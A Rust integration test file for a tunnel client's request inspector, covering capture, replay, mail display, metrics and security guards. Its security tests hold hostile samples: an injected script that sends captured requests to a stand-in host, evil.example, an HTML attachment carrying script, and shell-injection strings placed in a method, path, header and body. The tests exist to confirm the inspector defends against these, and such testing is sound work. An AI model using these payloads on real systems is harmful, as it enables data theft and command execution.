//! The inspector, through a real server, client and origin on 127.0.0.1:
//! what it captures, its JSON API, replay (of requests and of mail), its
//! guards, and the client's metrics read by Prometheus's own parser.
#![allow(clippy::unwrap_used)]

mod common;

use std::net::SocketAddr;
use std::time::Duration;

use base64::Engine as _;
use common::*;
use droid_client::{Inspector, InspectorOptions};
use futures::{SinkExt, StreamExt};
use http::{Request, StatusCode};
use http_body_util::BodyExt;
use serde_json::{Value, json};
use tokio::net::TcpListener;
use tokio_tungstenite::tungstenite::Message as WsMessage;

/// A client whose tunnel to `app` is inspected; the inspector's address.
async fn inspected(
    srv: &TestServer,
    spec: droid_client::TunnelSpec,
    options: InspectorOptions,
) -> (TestClient, SocketAddr) {
    let inspector = Inspector::new(options);
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let mut config = client_config(srv.control, vec![spec]);
    config.inspector = Some(inspector.clone());
    let c = client(config).await;
    let shutdown = c.shutdown.clone();
    tokio::spawn(async move { inspector.serve(listener, None, shutdown).await });
    (c, addr)
}

/// A request to the inspector, as the page sends it.
async fn call(
    inspector: SocketAddr,
    method: &str,
    path: &str,
    body: Option<Value>,
) -> (StatusCode, Value) {
    let mut request = Request::builder()
        .method(method)
        .uri(path)
        .header("host", format!("127.0.0.1:{}", inspector.port()));
    if method != "GET" {
        request = request.header("content-type", "application/json");
    }
    let body = body.map_or_else(empty, |b| full(b.to_string()));
    let response = send(inspector, request.body(body).unwrap()).await;
    let status = response.status();
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    let value = serde_json::from_slice(&bytes).unwrap_or(Value::Null);
    (status, value)
}

/// Waits until the inspector lists at least `n` exchanges matching `query`.
async fn listed(inspector: SocketAddr, query: &str, n: usize) -> Vec<Value> {
    within("the exchanges to be listed", async {
        loop {
            let (_, list) = call(inspector, "GET", &format!("/api/requests?{query}"), None).await;
            let items = list["requests"].as_array().cloned().unwrap_or_default();
            if items.len() >= n {
                return items;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    })
    .await
}

fn body_bytes(message: &Value) -> Vec<u8> {
    match message["body"].as_str() {
        Some(text) => text.as_bytes().to_vec(),
        None => base64::engine::general_purpose::STANDARD
            .decode(message["body_base64"].as_str().unwrap())
            .unwrap(),
    }
}

#[tokio::test]
async fn an_exchange_is_captured_with_its_headers_and_bodies() {
    let app = origin("app").await;
    let srv = server().await;
    let (c, inspector) =
        inspected(&srv, spec(None, &app.target), InspectorOptions::default()).await;
    let request = Request::post("/echo?x=1")
        .header("host", c.host())
        .header("content-type", "application/json")
        .header("x-trace", "abc")
        .body(full(r#"{"hello":"world"}"#))
        .unwrap();
    let response = send(srv.http, request).await;
    assert_eq!(response.status(), 200);
    response.into_body().collect().await.unwrap();

    let items = listed(inspector, "", 1).await;
    let item = &items[0];
    assert_eq!(item["kind"], "http");
    assert_eq!(item["tunnel"], c.name());
    assert_eq!(item["method"], "POST");
    assert_eq!(item["path"], "/echo?x=1");
    assert_eq!(item["status"], 200);
    assert_eq!(item["progress"], "complete");
    assert!(item["duration_ms"].as_f64().unwrap() > 0.0);
    assert!(item["started_at"].as_str().unwrap().ends_with('Z'));
    assert!(item["remote"].as_str().unwrap().starts_with("127.0.0.1:"));

    let (status, detail) = call(
        inspector,
        "GET",
        &format!("/api/requests/{}", item["id"]),
        None,
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(detail["request"]["body"], r#"{"hello":"world"}"#);
    assert_eq!(detail["request"]["size"], 17);
    assert_eq!(detail["request"]["truncated"], false);
    assert_eq!(detail["response"]["body"], r#"{"hello":"world"}"#);
    let headers = detail["request"]["headers"].as_array().unwrap();
    assert!(headers.contains(&json!(["x-trace", "abc"])), "{headers:?}");

    // Filters: by kind, status class, path and text in bodies.
    assert_eq!(
        listed(inspector, "kind=http&status=2xx&path=%2Fecho", 1)
            .await
            .len(),
        1
    );
    assert_eq!(listed(inspector, "q=WORLD", 1).await.len(), 1);
    let (_, none) = call(inspector, "GET", "/api/requests?kind=mail", None).await;
    assert_eq!(none["requests"], json!([]));

    let (_, tunnels) = call(inspector, "GET", "/api/tunnels", None).await;
    let t = &tunnels["tunnels"][0];
    assert_eq!(t["name"], c.name());
    assert_eq!(t["state"], "online");
    assert_eq!(t["target"], format!("http://{}", app.target));
    assert!(t["url"].as_str().unwrap().contains(c.name()));
    c.stop().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_hundred_requests_at_once_are_all_captured() {
    let app = origin("app").await;
    let srv = server().await;
    let (c, inspector) =
        inspected(&srv, spec(None, &app.target), InspectorOptions::default()).await;
    let host = c.host();
    let mut tasks = tokio::task::JoinSet::new();
    for i in 0..200 {
        let (http, host) = (srv.http, host.clone());
        tasks.spawn(async move { get(http, &host, &format!("/n/{i}")).await });
    }
    while let Some(done) = tasks.join_next().await {
        assert_eq!(done.unwrap().0, 200);
    }
    let items = listed(inspector, "limit=1000", 200).await;
    assert_eq!(items.len(), 200);
    let mut paths: Vec<String> = items
        .iter()
        .map(|i| i["path"].as_str().unwrap().to_string())
        .collect();
    paths.sort();
    paths.dedup();
    assert_eq!(paths.len(), 200, "every request once");
    assert!(items.iter().all(|i| i["status"] == 200));
    let (_, limited) = call(inspector, "GET", "/api/requests?limit=7", None).await;
    assert_eq!(limited["requests"].as_array().unwrap().len(), 7);
    c.stop().await;
}

#[tokio::test]
async fn a_body_over_the_cap_is_cut_and_flagged_while_the_app_gets_every_byte() {
    let app = origin("app").await;
    let srv = server().await;
    let options = InspectorOptions {
        body_cap: 4096,
        ..InspectorOptions::default()
    };
    let (c, inspector) = inspected(&srv, spec(None, &app.target), options).await;
    const SIZE: usize = 100 * 1024;
    let request = Request::post("/echo")
        .header("host", c.host())
        .body(pattern_body(SIZE))
        .unwrap();
    let response = send(srv.http, request).await;
    let echoed = response.into_body().collect().await.unwrap().to_bytes();
    assert_eq!(echoed.len(), SIZE, "the app and the visitor see every byte");
    assert!(echoed.iter().enumerate().all(|(i, b)| *b == pattern(i)));

    let items = listed(inspector, "", 1).await;
    let (_, detail) = call(
        inspector,
        "GET",
        &format!("/api/requests/{}", items[0]["id"]),
        None,
    )
    .await;
    for side in ["request", "response"] {
        let m = &detail[side];
        assert_eq!(m["size"], SIZE, "{side}");
        assert_eq!(m["truncated"], true, "{side}");
        let kept = body_bytes(m);
        assert_eq!(kept.len(), 4096, "{side}");
        assert!(
            kept.iter().enumerate().all(|(i, b)| *b == pattern(i)),
            "{side}"
        );
    }
    // What was not kept cannot be sent again as it was.
    let (status, refused) = call(
        inspector,
        "POST",
        &format!("/api/requests/{}/replay", items[0]["id"]),
        None,
    )
    .await;
    assert_eq!(status, 409);
    assert!(
        refused["error"]
            .as_str()
            .unwrap()
            .contains("not kept whole"),
        "{refused}"
    );
    c.stop().await;
}

#[tokio::test]
async fn websockets_show_as_upgraded_and_event_streams_as_streaming() {
    let app = origin("app").await;
    let srv = server().await;
    let (c, inspector) =
        inspected(&srv, spec(None, &app.target), InspectorOptions::default()).await;

    let stream = tokio::net::TcpStream::connect(srv.http).await.unwrap();
    let ws_request = Request::get(format!("ws://{}/ws", c.host()))
        .header("host", c.host())
        .header("connection", "Upgrade")
        .header("upgrade", "websocket")
        .header("sec-websocket-version", "13")
        .header(
            "sec-websocket-key",
            tokio_tungstenite::tungstenite::handshake::client::generate_key(),
        )
        .body(())
        .unwrap();
    let (mut ws, _) = tokio_tungstenite::client_async(ws_request, stream)
        .await
        .unwrap();
    ws.send(WsMessage::text("hello")).await.unwrap();
    let echo = within("the echo", ws.next()).await.unwrap().unwrap();
    assert_eq!(echo.into_text().unwrap(), "hello");
    // Shown while open, as upgraded.
    let items = listed(inspector, "path=%2Fws", 1).await;
    assert_eq!(items[0]["status"], 101);
    assert_eq!(items[0]["progress"], "upgraded");
    ws.close(None).await.unwrap();
    while ws.next().await.is_some() {}
    drop(ws);
    // And again when it ended, with the bytes each way.
    within("the websocket's byte counts", async {
        loop {
            let items = listed(inspector, "path=%2Fws", 1).await;
            if items[0]["duration_ms"].is_number() && items[0]["response_size"].as_u64() > Some(0) {
                assert!(items[0]["request_size"].as_u64().unwrap() > 0);
                return;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    })
    .await;

    let response = send(srv.http, get_request(&c.host(), "/sse")).await;
    let mut body = response.into_body();
    let first = within("the first event", body.frame())
        .await
        .unwrap()
        .unwrap();
    assert!(first.data_ref().is_some());
    let items = listed(inspector, "path=%2Fsse", 1).await;
    assert_eq!(items[0]["progress"], "streaming");
    assert_eq!(items[0]["status"], 200);
    app.sse_next.notify_one();
    while body.frame().await.is_some() {}
    within("the stream to end", async {
        loop {
            let items = listed(inspector, "path=%2Fsse", 1).await;
            if items[0]["progress"] == "complete" {
                let (_, detail) = call(
                    inspector,
                    "GET",
                    &format!("/api/requests/{}", items[0]["id"]),
                    None,
                )
                .await;
                assert_eq!(
                    detail["response"]["size"],
                    "data: one\n\ndata: two\n\n".len()
                );
                assert_eq!(
                    detail["response"]["body"], "",
                    "a stream is counted, never kept"
                );
                return;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    })
    .await;
    c.stop().await;
}

#[tokio::test]
async fn replay_sends_the_request_again_with_or_without_edits() {
    let mut app = origin("app").await;
    let srv = server().await;
    let (c, inspector) =
        inspected(&srv, spec(None, &app.target), InspectorOptions::default()).await;
    let request = Request::post("/inbound/orders?src=web")
        .header("host", c.host())
        .header("content-type", "application/json")
        .body(full(r#"{"order":1}"#))
        .unwrap();
    assert_eq!(send(srv.http, request).await.status(), 200);
    let first = app.next_mail().await;
    assert_eq!(first.body, r#"{"order":1}"#);
    let id = listed(inspector, "", 1).await[0]["id"].clone();

    let (status, replayed) = call(
        inspector,
        "POST",
        &format!("/api/requests/{id}/replay"),
        None,
    )
    .await;
    assert_eq!(status, 200, "{replayed}");
    assert_eq!(replayed["replay_of"], id);
    assert_eq!(replayed["status"], 200);
    let again = app.next_mail().await;
    assert_eq!(again.path, "/inbound/orders");
    assert_eq!(again.body, r#"{"order":1}"#);
    assert_eq!(again.header("content-type"), "application/json");

    let edits = json!({
        "method": "PUT",
        "path": "/inbound/edited",
        "headers": [["Host", c.host()], ["X-Edited", "yes"], ["Content-Type", "text/plain"]],
        "body": "changed",
    });
    let (status, edited) = call(
        inspector,
        "POST",
        &format!("/api/requests/{id}/replay"),
        Some(edits),
    )
    .await;
    assert_eq!(status, 200, "{edited}");
    let changed = app.next_mail().await;
    assert_eq!(changed.path, "/inbound/edited");
    assert_eq!(changed.body, "changed");
    assert_eq!(changed.header("x-edited"), "yes");
    // Both replays are captured, marked as replays.
    let replays: Vec<Value> = listed(inspector, "", 3)
        .await
        .into_iter()
        .filter(|i| i["replay_of"] == id)
        .collect();
    assert_eq!(replays.len(), 2);
    let (_, detail) = call(
        inspector,
        "GET",
        &format!("/api/requests/{}", edited["id"]),
        None,
    )
    .await;
    assert_eq!(detail["method"], "PUT");
    assert_eq!(detail["request"]["body"], "changed");

    // An exchange no longer kept cannot be replayed.
    let (status, missing) = call(inspector, "POST", "/api/requests/999999/replay", None).await;
    assert_eq!(status, 404, "{missing}");
    c.stop().await;
}

#[tokio::test]
async fn a_mail_is_shown_as_a_mail_and_its_replay_is_signed_afresh() {
    let mut app = origin("app").await;
    let srv = mail_server(None).await;
    let mut tunnel = spec(None, &app.target);
    set_mail(&mut tunnel, inbound_mail("/inbound"));
    tunnel.secret = Some("s3cret".into());
    let (c, inspector) = inspected(&srv, tunnel, InspectorOptions::default()).await;
    let to = format!("hi@{}", c.host());
    let sent = smtplib_send(
        srv.smtp.unwrap(),
        "ann@example.com",
        &[&to],
        "Quarterly report",
        "numbers inside",
    )
    .await;
    assert_eq!(sent, "SENT");
    let delivered = app.next_mail().await;

    let items = listed(inspector, "kind=mail", 1).await;
    let item = &items[0];
    assert_eq!(item["kind"], "mail");
    assert_eq!(item["method"], "POST");
    assert_eq!(item["path"], "/inbound");
    assert_eq!(item["mail"]["subject"], "Quarterly report");
    assert_eq!(item["mail"]["from"], "ann@example.com");
    assert_eq!(item["mail"]["to"], json!([to]));
    assert_eq!(item["delivery_id"], delivered.header("webhook-id"));

    let (_, detail) = call(
        inspector,
        "GET",
        &format!("/api/requests/{}", item["id"]),
        None,
    )
    .await;
    let mail = &detail["mail"];
    assert!(mail["text"].as_str().unwrap().contains("numbers inside"));
    let attachment = &mail["attachments"][0];
    assert_eq!(attachment["filename"], "report.pdf");
    assert_eq!(attachment["content_type"], "application/pdf");
    let download = attachment["download"].as_str().unwrap();
    let response = send(
        inspector,
        Request::get(download)
            .header("host", "localhost")
            .body(empty())
            .unwrap(),
    )
    .await;
    assert_eq!(response.status(), 200);
    assert!(
        response.headers()["content-disposition"]
            .to_str()
            .unwrap()
            .contains("report.pdf")
    );
    let bytes = response.into_body().collect().await.unwrap().to_bytes();
    assert_eq!(&bytes[..], b"%PDF-1.4 binary \x00\x01\x02");

    let (status, replayed) = call(
        inspector,
        "POST",
        &format!("/api/requests/{}/replay", item["id"]),
        None,
    )
    .await;
    assert_eq!(status, 200, "{replayed}");
    assert_eq!(replayed["kind"], "mail");
    let again = app.next_mail().await;
    assert_eq!(again.body, delivered.body, "the same mail");
    assert_eq!(again.header("webhook-id"), delivered.header("webhook-id"));
    let timestamp = again.header("webhook-timestamp");
    assert!(
        timestamp.parse::<u64>().unwrap() >= delivered.header("webhook-timestamp").parse().unwrap()
    );
    assert!(signed_with(&again, "s3cret"));
    c.stop().await;
}

#[tokio::test]
async fn the_inspector_refuses_foreign_hosts_forms_and_strangers() {
    let app = origin("app").await;
    let srv = server().await;
    let (c, inspector) =
        inspected(&srv, spec(None, &app.target), InspectorOptions::default()).await;
    assert_eq!(get(srv.http, &c.host(), "/x").await.0, 200);
    let id = listed(inspector, "", 1).await[0]["id"].clone();

    // DNS rebinding: a name that resolves here, but is not this machine's.
    let response = send(
        inspector,
        Request::get("/api/requests")
            .header("host", "evil.example:4040")
            .body(empty())
            .unwrap(),
    )
    .await;
    assert_eq!(response.status(), 403);
    // A cross-site form cannot replay or clear.
    for (method, path) in [
        ("POST", format!("/api/requests/{id}/replay")),
        ("DELETE", "/api/requests".into()),
    ] {
        let response = send(
            inspector,
            Request::builder()
                .method(method)
                .uri(path.as_str())
                .header("host", "localhost:4040")
                .header("content-type", "application/x-www-form-urlencoded")
                .body(full("a=1"))
                .unwrap(),
        )
        .await;
        assert_eq!(response.status(), 403, "{method} {path}");
    }
    assert_eq!(
        listed(inspector, "", 1).await.len(),
        1,
        "nothing was replayed or cleared"
    );
    let (status, _) = call(inspector, "DELETE", "/api/requests", None).await;
    assert_eq!(status, 200);
    let (_, list) = call(inspector, "GET", "/api/requests", None).await;
    assert_eq!(list["requests"], json!([]));
    c.stop().await;

    // With a login, every request must bring it.
    let inspector = Inspector::new(InspectorOptions::default());
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    let shutdown = tokio_util::sync::CancellationToken::new();
    let token = shutdown.clone();
    tokio::spawn(async move {
        inspector
            .serve(listener, Some("ann:pw".into()), token)
            .await
    });
    let (status, _) = call(addr, "GET", "/api/tunnels", None).await;
    assert_eq!(status, 401);
    let response = send(
        addr,
        Request::get("/api/tunnels")
            .header("host", "127.0.0.1")
            .header("authorization", "Basic YW5uOnB3")
            .body(empty())
            .unwrap(),
    )
    .await;
    assert_eq!(response.status(), 200);
    shutdown.cancel();
}

#[tokio::test]
async fn new_exchanges_stream_as_server_sent_events() {
    let app = origin("app").await;
    let srv = server().await;
    let (c, inspector) =
        inspected(&srv, spec(None, &app.target), InspectorOptions::default()).await;
    let response = send(
        inspector,
        Request::get("/api/events")
            .header("host", "localhost")
            .body(empty())
            .unwrap(),
    )
    .await;
    assert_eq!(response.headers()["content-type"], "text/event-stream");
    let mut events = response.into_body();
    assert_eq!(get(srv.http, &c.host(), "/live").await.0, 200);
    let mut seen = String::new();
    within("an exchange event", async {
        while !seen.contains("\"path\":\"/live\"") {
            let frame = events.frame().await.unwrap().unwrap();
            seen.push_str(&String::from_utf8_lossy(frame.data_ref().unwrap()));
        }
    })
    .await;
    assert!(seen.contains("event: exchange\ndata: {"), "{seen}");
    c.stop().await;
}

#[tokio::test]
async fn metrics_move_by_exactly_what_was_sent_and_parse() {
    let app = origin("app").await;
    let srv = server().await;
    let (c, inspector) =
        inspected(&srv, spec(None, &app.target), InspectorOptions::default()).await;
    for i in 0..5 {
        assert_eq!(get(srv.http, &c.host(), &format!("/ok/{i}")).await.0, 200);
    }
    for _ in 0..3 {
        assert_eq!(get(srv.http, &c.host(), "/status/404").await.0, 404);
    }
    let metrics = |text: &str, name: &str| -> Option<f64> {
        text.lines()
            .find(|l| l.starts_with(name) && l[name.len()..].starts_with(' '))
            .and_then(|l| l.rsplit(' ').next()?.parse().ok())
    };
    let scrape = || async {
        let response = send(
            inspector,
            Request::get("/metrics")
                .header("host", "127.0.0.1")
                .body(empty())
                .unwrap(),
        )
        .await;
        assert!(
            response.headers()["content-type"]
                .to_str()
                .unwrap()
                .starts_with("text/plain; version=0.0.4")
        );
        let bytes = response.into_body().collect().await.unwrap().to_bytes();
        String::from_utf8(bytes.to_vec()).unwrap()
    };
    // Request lines come from the server in batches: wait for all eight.
    let text = within("the counters", async {
        loop {
            let text = scrape().await;
            let ok = metrics(&text, "droid_client_requests_total{status_class=\"2xx\"}");
            let missing = metrics(&text, "droid_client_requests_total{status_class=\"4xx\"}");
            if ok == Some(5.0) && missing == Some(3.0) {
                return text;
            }
            assert!(ok <= Some(5.0) && missing <= Some(3.0), "{text}");
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    })
    .await;
    assert_eq!(metrics(&text, "droid_client_connected"), Some(1.0));
    assert_eq!(metrics(&text, "droid_client_tunnels"), Some(1.0));
    assert_eq!(
        metrics(&text, "droid_inspector_dropped_captures_total"),
        Some(0.0)
    );
    assert!(metrics(&text, "droid_client_bytes_total{direction=\"to_app\"}").unwrap() > 0.0);
    assert!(metrics(&text, "droid_client_bytes_total{direction=\"from_app\"}").unwrap() > 0.0);
    promtool_check(&text).await;
    c.stop().await;
}

#[tokio::test]
async fn the_502_for_an_app_that_is_not_running_is_shown_too() {
    let srv = server().await;
    let port = dead_port().await;
    let target = droid_client::Target::new("127.0.0.1", port);
    let (c, inspector) = inspected(&srv, spec(None, &target), InspectorOptions::default()).await;
    let (status, body) = get(srv.http, &c.host(), "/down").await;
    assert_eq!(status, 502);
    let items = listed(inspector, "status=502", 1).await;
    assert_eq!(items[0]["path"], "/down");
    let (_, detail) = call(
        inspector,
        "GET",
        &format!("/api/requests/{}", items[0]["id"]),
        None,
    )
    .await;
    assert_eq!(detail["response"]["body"], body);
    assert!(body.contains("nothing answers"), "{body}");
    c.stop().await;
}

#[tokio::test]
async fn a_tcp_connection_shows_with_its_byte_counts() {
    // An echo service behind a TCP tunnel.
    let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
    let target = droid_client::Target::new("127.0.0.1", listener.local_addr().unwrap().port());
    tokio::spawn(async move {
        while let Ok((mut socket, _)) = listener.accept().await {
            tokio::spawn(async move {
                let (mut r, mut w) = socket.split();
                let _ = tokio::io::copy(&mut r, &mut w).await;
            });
        }
    });
    let srv = server_with(|c| {
        c.tcp_ports = Some(droid_server::TcpPorts::Any);
        c.tcp_bind = [127, 0, 0, 1].into();
    })
    .await;
    let (c, inspector) = inspected(
        &srv,
        droid_client::TunnelSpec::tcp(target, None),
        InspectorOptions::default(),
    )
    .await;
    let port = c.grants[0].tcp.unwrap();
    let mut socket = tokio::net::TcpStream::connect(("127.0.0.1", port))
        .await
        .unwrap();
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    socket.write_all(b"twelve bytes").await.unwrap();
    socket.shutdown().await.unwrap();
    let mut back = Vec::new();
    socket.read_to_end(&mut back).await.unwrap();
    assert_eq!(back, b"twelve bytes");
    within("the connection's counts", async {
        loop {
            let items = listed(inspector, "kind=tcp", 1).await;
            if items[0]["progress"] == "complete" {
                assert_eq!(items[0]["request_size"], 12);
                assert_eq!(items[0]["response_size"], 12);
                assert!(
                    items[0]["remote"]
                        .as_str()
                        .unwrap()
                        .starts_with("127.0.0.1:")
                );
                return;
            }
            tokio::time::sleep(Duration::from_millis(20)).await;
        }
    })
    .await;
    c.stop().await;
}

/// The headers and bytes the inspector serves at `path`.
async fn fetched(inspector: SocketAddr, path: &str) -> (http::HeaderMap, bytes::Bytes) {
    let response = send(
        inspector,
        Request::get(path)
            .header("host", "127.0.0.1")
            .body(empty())
            .unwrap(),
    )
    .await;
    assert_eq!(response.status(), 200, "{path}");
    let headers = response.headers().clone();
    (
        headers,
        response.into_body().collect().await.unwrap().to_bytes(),
    )
}

/// What a visitor sent, served back: a download that runs nothing.
fn assert_served_as_a_download(headers: &http::HeaderMap, what: &str) {
    let disposition = headers["content-disposition"].to_str().unwrap();
    assert!(
        disposition.starts_with("attachment; filename=\""),
        "{what}: {disposition}"
    );
    let name = disposition
        .trim_start_matches("attachment; filename=\"")
        .trim_end_matches('"');
    assert!(
        name.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"._-".contains(&b)),
        "{what}: {name:?}"
    );
    assert_eq!(headers["x-content-type-options"], "nosniff", "{what}");
    assert_eq!(
        headers["content-security-policy"], "default-src 'none'; sandbox",
        "{what}"
    );
}

#[tokio::test]
async fn bytes_a_visitor_sent_are_served_as_downloads_that_run_nothing() {
    let app = origin("app").await;
    let srv = mail_server(None).await;
    let mut tunnel = spec(None, &app.target);
    set_mail(&mut tunnel, inbound_mail("/inbound"));
    let (c, inspector) = inspected(&srv, tunnel, InspectorOptions::default()).await;
    // The attack: a page posted through the tunnel, then opened at the
    // inspector's origin by any page the developer visits.
    let script = "<script>fetch('/api/requests').then(r=>r.text()).then(t=>fetch('http://evil.example/?'+t))</script>";
    let request = Request::post("/echo")
        .header("host", c.host())
        .header("content-type", "text/html")
        .body(full(script))
        .unwrap();
    assert_eq!(send(srv.http, request).await.status(), 200);
    let id = listed(inspector, "", 1).await[0]["id"].clone();
    for which in ["request", "response"] {
        let (headers, body) = fetched(inspector, &format!("/api/requests/{id}/{which}/body")).await;
        assert_served_as_a_download(&headers, which);
        assert_eq!(&body[..], script.as_bytes(), "the bytes are the same");
    }

    // An attachment whose name holds a control character: before, it lost
    // its Content-Disposition and was shown inline.
    const MAIL: &str = r#"
import smtplib, sys
from email.message import EmailMessage
m = EmailMessage()
m['From'] = 'eve@example.com'
m['To'] = sys.argv[3]
m['Subject'] = 'invoice'
m.set_content('see attached')
m.add_attachment(b'<script>alert(1)</script>', maintype='text', subtype='html', filename='invoice\x01.html')
with smtplib.SMTP(sys.argv[1], int(sys.argv[2]), timeout=30) as s:
    s.send_message(m)
print('SENT')
"#;
    let smtp = srv.smtp.unwrap();
    let to = format!("billing@{}", c.host());
    let (ok, out, err) = python(
        MAIL,
        &[&smtp.ip().to_string(), &smtp.port().to_string(), &to],
    )
    .await;
    assert!(ok && out.trim() == "SENT", "{out} {err}");
    let mail = listed(inspector, "kind=mail", 1).await[0]["id"].clone();
    let (_, detail) = call(inspector, "GET", &format!("/api/requests/{mail}"), None).await;
    let download = detail["mail"]["attachments"][0]["download"]
        .as_str()
        .unwrap()
        .to_string();
    let (headers, body) = fetched(inspector, &download).await;
    assert_served_as_a_download(&headers, "attachment");
    assert_eq!(&body[..], b"<script>alert(1)</script>");

    // The page itself runs only its own script.
    let (headers, _) = fetched(inspector, "/").await;
    let policy = headers["content-security-policy"].to_str().unwrap();
    assert!(
        policy.starts_with("default-src 'none'; script-src 'sha256-"),
        "{policy}"
    );
    assert!(!policy.contains("unsafe-eval"), "{policy}");
    assert_eq!(headers["x-content-type-options"], "nosniff");
    c.stop().await;
}

#[tokio::test]
async fn copy_as_curl_runs_curl_and_nothing_else_whatever_the_visitor_sent() {
    let app = origin("app").await;
    let srv = server().await;
    let (c, inspector) =
        inspected(&srv, spec(None, &app.target), InspectorOptions::default()).await;
    let host = c.host();
    // Each part would run a command if pasted unquoted: the method is a
    // valid HTTP token (hyper takes `|` and backticks in one).
    let method = "X|tee`echo`pwned1";
    let path = "/echo?a=$(touch${IFS}pwned2)&b=`touch${IFS}pwned3`";
    let header = "x-evil: '; touch pwned4; echo '";
    let texts: [&[u8]; 2] = [
        b"'$(touch pwned5)'\n`touch pwned6`;|&",
        b"bin\x00ary'\xff$(touch pwned7)",
    ];
    for body in texts {
        let head = format!(
            "{method} {path} HTTP/1.1\r\nHost: {host}\r\n{header}\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            body.len()
        );
        let mut request = head.into_bytes();
        request.extend_from_slice(body);
        let answer = raw(srv.http, &request).await;
        assert!(answer.starts_with("HTTP/1.1 200"), "{answer}");
    }
    let items = listed(inspector, "", 2).await;
    let dir = tempfile::tempdir().unwrap();
    for item in items {
        let (_, detail) = call(
            inspector,
            "GET",
            &format!("/api/requests/{}", item["id"]),
            None,
        )
        .await;
        let command = detail["curl"].as_str().unwrap();
        let syntax = std::process::Command::new("bash")
            .args(["-n", "-c", command])
            .output()
            .unwrap();
        assert!(
            syntax.status.success(),
            "{command}: {}",
            String::from_utf8_lossy(&syntax.stderr)
        );
        // A stand-in for curl prints each argument it got, and the body
        // it read from its standard input (for `@-`), as hex.
        let fake = "curl() { for a in \"$@\"; do printf '<%s>\\n' \"$a\"; \
                    if [ \"$a\" = @- ]; then od -An -tx1 | tr -d ' \\n'; echo; fi; done; }";
        let out = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!("{fake}\n{command}"))
            .current_dir(dir.path())
            .output()
            .unwrap();
        assert!(
            out.status.success(),
            "{command}: {}",
            String::from_utf8_lossy(&out.stderr)
        );
        let printed = String::from_utf8(out.stdout).unwrap();
        let lines: Vec<&str> = printed.lines().collect();
        assert_eq!(
            lines[..4],
            [
                "<-X>",
                &format!("<{method}>"),
                &format!("<http://{host}{path}>"),
                "<-H>"
            ],
            "{printed}"
        );
        assert!(
            lines.contains(&"<x-evil: '; touch pwned4; echo '>"),
            "{printed}"
        );
        let body = body_bytes(&detail["request"]);
        if let Ok(text) = std::str::from_utf8(&body)
            && !text.contains('\0')
        {
            assert!(
                printed.contains(&format!("<--data-binary>\n<{text}>")),
                "{printed}"
            );
        } else {
            let hex: String = body.iter().map(|b| format!("{b:02x}")).collect();
            assert_eq!(lines[lines.len() - 1], hex, "{printed}");
        }
    }
    let left: Vec<_> = std::fs::read_dir(dir.path()).unwrap().collect();
    assert!(left.is_empty(), "a pasted command ran something: {left:?}");
    c.stop().await;
}
